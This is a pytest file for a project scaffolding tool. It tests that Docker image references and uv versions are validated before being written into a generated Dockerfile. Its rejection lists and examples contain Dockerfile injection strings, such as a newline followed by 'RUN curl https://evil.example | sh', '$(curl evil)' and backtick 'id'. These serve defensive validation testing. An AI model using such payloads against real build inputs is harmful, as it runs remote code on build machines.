"""Image answers (``python_image``, ``uv_image``) and ``uv_version`` are written into the
Dockerfile and given to ``docker build``: one checker (the Docker image reference grammar, PEP
440) for every source, and nothing but a reference gets into a Dockerfile line."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from scaffold.create.new import NewOptions, build_spec
from scaffold.create.render import render
from scaffold.create.spec import check_uv_version
from scaffold.create.templates import load_template
from scaffold.errors import UsageError
from scaffold.tools.images import _IMAGE, check_image
from tests.conftest import FAST, Cli, ScaffoldResult, tree_bytes

TEMPLATE = load_template("service")
DIGEST = "sha256:" + "0123456789abcdef" * 4
VALID = [
    "python:3.12-slim",
    "registry.example:5000/team/python:3.12-slim-bookworm",
    "ghcr.io/astral-sh/uv:0.13.9",
    f"img@{DIGEST}",
    f"python:3.12@{DIGEST}",
    "localhost/x:y",
    "localhost:5000/a__b/c-d.e:T_1",
    "[::1]:5000/x",
]
HOSTILE = [
    "python:3.12-slim\nRUN curl https://evil.example | sh",
    "python:3.12-slim\n",
    "python:3.12-slim\rRUN x",
    "python:3.12-slim \\",
    "python:3.12-slim\\",
    "python:3.12 slim",
    " python:3.12",
    "Python:3.12",
    "registry.example/Team/python:3.12",
    "python:$(curl evil)",
    "python:${EVIL}",
    "python:`id`",
    "python:3.12;id",
    "",
    "python:" + "t" * 129,
    "img@sha256:abc",
    "-python:3.12",
]


@pytest.mark.parametrize("image", VALID)
def test_image_references_are_accepted(image: str) -> None:
    assert check_image(image) == image


@pytest.mark.parametrize("image", HOSTILE)
def test_anything_but_a_reference_is_refused(image: str) -> None:
    with pytest.raises(UsageError, match="is not a Docker image reference") as info:
        check_image(image)
    assert "\n" not in info.value.message


@pytest.mark.parametrize(
    "version", ["0.13.9\nRUN x", " 0.13.9", "0.13.9 ", "latest", "v0.13.9", ""]
)
def test_a_uv_version_is_a_pep_440_version_as_written(version: str) -> None:
    with pytest.raises(UsageError, match="is not a uv version"):
        check_uv_version(version)
    assert check_uv_version("0.13.9") == "0.13.9"


def _dockerfile(**data: str) -> str:
    spec = build_spec(NewOptions(name="my-api", python="3.11", lock=False, data=data), TEMPLATE)
    files = {item.path: item.content.decode() for item in render(TEMPLATE, spec.answers()).files}
    return files["Dockerfile"]


def _instructions(dockerfile: str) -> list[str]:
    """The Dockerfile's FROM and ARG lines, as docker reads lines (a trailing backslash joins
    the next one)."""
    joined = re.sub(r"\\\n", " ", dockerfile)
    return [line for line in joined.splitlines() if line.startswith(("FROM", "ARG", "RUN"))]


BASELINE = _instructions(_dockerfile())
_TRICKY = st.sampled_from(["\n", "\r", "\\", " ", "$(", ")", "`", ";", "\x1b", "\x00", "RUN ", "A"])
_CANDIDATES = st.one_of(
    st.from_regex(_IMAGE, fullmatch=True),
    st.lists(st.one_of(st.text(max_size=6), _TRICKY, st.sampled_from(VALID)), max_size=6).map(
        "".join
    ),
)


@given(image=_CANDIDATES)
@example(image="python:3.12-slim\nRUN curl evil | sh")
@example(image="python:3.12-slim \\")
def test_an_image_that_passes_adds_no_dockerfile_line(image: str) -> None:
    try:
        check_image(image)
    except UsageError:
        return
    dockerfile = _dockerfile(python_image=image, uv_image=image)
    lines = _instructions(dockerfile)
    assert len(lines) == len(BASELINE)
    assert f"ARG PYTHON_IMAGE={image}" in lines
    assert f"ARG UV_IMAGE={image}" in lines


_CONTROL = st.sampled_from([chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0))])


@given(image=st.from_regex(_IMAGE, fullmatch=True), control=_CONTROL, at=st.integers(0, 300))
def test_an_image_with_a_control_character_never_passes(image: str, control: str, at: int) -> None:
    at = min(at, len(image))
    with pytest.raises(UsageError):
        check_image(image[:at] + control + image[at:])


# --- every source of an image, through the CLI ----------------------------------------------

BAD = "python:3.12-slim\nRUN curl https://evil.example | sh"
SOURCES_BAD = [
    BAD,
    "python:3.12-slim\r",
    "python:3.12-slim \\",
    "python:3.12 slim",
    "Python:3.12",
    "python:$(id)",
]


def _refused(result: ScaffoldResult, tmp_path: Path, before: dict[str, bytes], name: str) -> None:
    assert result.code == 2, result
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result
    assert name in lines[0], lines[0]
    assert "is not a Docker image reference" in lines[0]
    assert tree_bytes(tmp_path) == before


@pytest.mark.parametrize("image", SOURCES_BAD)
@pytest.mark.parametrize("key", ["python_image", "uv_image"])
def test_data_and_data_file_images_are_refused(
    cli: Cli, tmp_path: Path, key: str, image: str
) -> None:
    data = tmp_path / "answers.yml"
    data.write_text(yaml.safe_dump({key: image}))
    before = tree_bytes(tmp_path)
    out = tmp_path / "out"
    result = cli("new", "my-api", "--path", out, *FAST, "--data", f"{key}={image}")
    _refused(result, tmp_path, before, f"--data: '{key}'")
    result = cli("new", "my-api", "--path", out, *FAST, "--data-file", data)
    _refused(result, tmp_path, before, f"{data}: '{key}'")


@pytest.mark.parametrize("image", SOURCES_BAD)
@pytest.mark.parametrize("key", ["python-image", "uv-image"])
@pytest.mark.parametrize("template", ["service", "lib"])
def test_preset_images_are_refused_even_where_the_template_asks_none(
    cli: Cli, tmp_path: Path, key: str, image: str, template: str
) -> None:
    preset = tmp_path / "acme.toml"
    preset.write_text(f"{key} = {_toml(image)}\n")
    before = tree_bytes(tmp_path)
    out = tmp_path / "out"
    args = ("--template", template, "--preset", preset)
    _refused(cli("new", "my-api", "--path", out, *FAST, *args), tmp_path, before, f"'{key}'")


def _toml(text: str) -> str:
    import tomlkit  # noqa: PLC0415

    return tomlkit.string(text).as_string()


@pytest.mark.parametrize("image", SOURCES_BAD)
@pytest.mark.parametrize("option", ["--python-image", "--uv-image"])
def test_validate_options_are_refused(cli: Cli, tmp_path: Path, option: str, image: str) -> None:
    before = tree_bytes(tmp_path)
    _refused(cli("validate", tmp_path, option, image), tmp_path, before, option)


@pytest.mark.parametrize("image", SOURCES_BAD)
@pytest.mark.parametrize("env", ["SCAFFOLD_PYTHON_IMAGE", "SCAFFOLD_UV_IMAGE"])
def test_environment_images_are_refused_before_new_writes(
    cli: Cli, tmp_path: Path, env: str, image: str
) -> None:
    before = tree_bytes(tmp_path)
    result = cli("validate", tmp_path, env={env: image})
    _refused(result, tmp_path, before, f"${env}")
    # new validates what it made: the images are refused before the project is written.
    new = cli("new", "my-api", "--path", tmp_path / "out", "--no-git", env={env: image})
    _refused(new, tmp_path, before, f"${env}")


@pytest.mark.parametrize("image", SOURCES_BAD)
@pytest.mark.parametrize("key", ["python-image", "uv-image"])
def test_config_file_images_are_refused(cli: Cli, tmp_path: Path, key: str, image: str) -> None:
    config = tmp_path / "config" / f"{abs(hash((key, image)))}.toml"  # _load caches by path
    config.parent.mkdir()
    config.write_text(f"[docker]\n{key} = {_toml(image)}\n")
    before = tree_bytes(tmp_path)
    env = {"SCAFFOLD_CONFIG": str(config), "SCAFFOLD_PYTHON_IMAGE": "", "SCAFFOLD_UV_IMAGE": ""}
    result = cli("validate", tmp_path, env=env)
    _refused(result, tmp_path, before, f"{config}: [docker] {key}")


def test_valid_images_from_data_reach_the_dockerfile(cli: Cli, tmp_path: Path) -> None:
    python, uv = VALID[1], VALID[2]
    result = cli(
        "new", "my-api", "--path", tmp_path, *FAST,
        "--data", f"python_image={python}", "--data", f"uv_image={uv}",
        "--data", "uv_version=0.13.9",
    )  # fmt: skip
    assert result.code == 0, result
    dockerfile = (tmp_path / "my-api" / "Dockerfile").read_text()
    assert f"ARG PYTHON_IMAGE={python}\nARG UV_IMAGE={uv}\n" in dockerfile


def test_update_validate_refuses_an_environment_image_before_it_writes(
    cli: Cli, tmp_path: Path
) -> None:
    from scaffold import __version__  # noqa: PLC0415
    from scaffold.create.new import new_project  # noqa: PLC0415

    report = new_project(NewOptions(name="my-api", parent=tmp_path, lock=False, git=False))
    before = tree_bytes(tmp_path)
    args = ("update", report.path, "--to", __version__, "--data", "description=Changed")
    result = cli(*args, "--validate", env={"SCAFFOLD_PYTHON_IMAGE": BAD})
    _refused(result, tmp_path, before, "$SCAFFOLD_PYTHON_IMAGE")


def test_an_image_may_name_the_projects_python_as_a_pattern(tmp_path: Path) -> None:
    """`registry/python:{python}-slim` in the config, a preset, an option or the environment:
    checked as a pattern, then the project's Python put in (the answer and the build)."""
    from scaffold.tools.docker import BuildSettings  # noqa: PLC0415
    from scaffold.tools.images import check_image_pattern, image_for_python  # noqa: PLC0415

    pattern = "registry.example:5000/team/python:{python}-slim-trixie"
    assert check_image_pattern(pattern) == pattern
    assert image_for_python(pattern, "3.13") == "registry.example:5000/team/python:3.13-slim-trixie"
    assert BuildSettings.resolve(pattern, None, None, "3.12").python_image == (
        "registry.example:5000/team/python:3.12-slim-trixie"
    )
    with pytest.raises(UsageError):
        check_image_pattern("python:{python}\nRUN curl x | sh")
    with pytest.raises(UsageError):
        BuildSettings.resolve(None, "ghcr.io/astral-sh/uv:{python}", None, "3.12")  # uv: no pattern


def test_a_presets_image_pattern_becomes_the_dockerfiles_image_for_the_projects_python(
    tmp_path: Path,
) -> None:
    from scaffold.create.presets import Preset  # noqa: PLC0415

    preset = Preset(python_image="registry.example/python:{python}-slim-bookworm")
    spec = build_spec(NewOptions(name="my-api", parent=tmp_path, python="3.12", preset=preset))
    assert spec.answers()["python_image"] == "registry.example/python:3.12-slim-bookworm"
